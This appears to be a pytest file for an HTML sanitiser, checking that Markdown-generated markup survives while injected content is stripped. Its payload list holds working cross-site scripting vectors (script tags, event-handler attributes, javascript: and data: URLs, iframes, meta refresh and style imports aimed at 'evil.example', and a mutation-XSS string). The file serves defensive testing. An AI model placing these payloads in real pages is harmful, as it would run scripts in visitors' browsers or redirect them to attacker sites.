"""The body's HTML keeps what Markdown's extensions make and loses every live payload."""

from __future__ import annotations

import pytest

from hindsight.page.sanitise import sanitise

KEPT = [
    '<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>',
    '<details class="note"><summary>S</summary><p>x</p></details>',
    '<table><thead><tr><th style="text-align:left">a</th></tr></thead></table>',
    '<div class="highlight"><pre><span></span><code><span class="k">SELECT</span></code></pre></div>',
    '<h2 id="x">T<a class="headerlink" href="#x" title="Permanent link">¶</a></h2>',
    "<!--hindsight-abc-0--><p><!--hindsight-abc-1--></p>",
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
    '<pre class="mermaid"><code>graph TD; A--&gt;B</code></pre>',
    '<p><abbr title="Hypertext">HTML</abbr> <a href="mailto:a@b.c">m</a> <a href="https://ok.example">ok</a></p>',
    '<p><img src="../assets/graph.png" alt="local"></p>',
    '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
    '<input type="checkbox" disabled="" checked=""><span class="task-list-indicator"></span></label> done</li></ul>',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_markdown_and_material_make_is_kept(html: str) -> None:
    assert sanitise(html) == html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVa\tScRipt:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<svg onload="alert(1)"></svg>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="https://evil.example/x"></object>',
        '<embed src="https://evil.example/x">',
        '<form action="https://evil.example"><input type="text" name="q"><button>go</button></form>',
        "<style>@import url(https://evil.example/x.css)</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<a href="#" onclick="alert(1)" style="background:url(https://evil.example)">s</a>',
        '<details open ontoggle="alert(1)"><summary>x</summary></details>',
        '<video src="https://evil.example/v.mp4" autoplay></video>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
)
def test_live_payloads_lose_their_life(payload: str) -> None:
    clean = sanitise(f"<p>before</p>{payload}<p>after</p>")
    lowered = clean.lower()
    for sign in ("<script", "onerror", "onload", "onclick", "ontoggle", "javascript:", "<iframe", "<object", "<embed",
                 "<form", "<style", "<link", "<base", "<meta", "<svg", "<video", "evil.example/x.css", "url("):  # fmt: skip
        assert sign not in lowered, (payload, clean)
    assert clean.startswith("<p>before</p>")


def test_a_remote_image_becomes_a_link_that_loads_nothing() -> None:
    clean = sanitise('<p><img alt="latency graph" src="https://tracker.example.net/p.gif?u=1&amp;v=2"></p>')
    assert clean == (
        '<p><a class="hs-remote-image" href="https://tracker.example.net/p.gif?u=1&amp;v=2">'
        "latency graph (image on another site)</a></p>"
    )
    assert "<img" not in sanitise('<img src="//cdn.example.net/x.png">')


def test_plain_text_is_returned_as_it_is() -> None:
    assert sanitise("no markup at all") == "no markup at all"
